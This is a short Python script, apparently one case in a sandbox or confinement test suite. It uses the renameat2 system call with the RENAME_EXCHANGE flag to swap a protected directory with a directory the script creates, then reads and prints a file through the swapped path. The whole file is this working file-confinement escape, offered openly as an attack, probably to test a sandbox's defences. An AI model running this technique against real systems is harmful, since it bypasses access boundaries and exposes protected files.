# RENAME_EXCHANGE: the directory and one of ours change places.
import os

from calls import AT_FDCWD, call
from inside import run, show

RENAMEAT2 = 316 if os.uname().machine == "x86_64" else 276
RENAME_EXCHANGE = 2


def attack(target):
    os.mkdir(f"{target.work}/mine")
    call(RENAMEAT2, AT_FDCWD, target.parent.encode(), AT_FDCWD, f"{target.work}/mine".encode(), RENAME_EXCHANGE)
    with open(f"{target.work}/mine/{target.name}", "rb") as file:
        show(file.read())


run(attack)
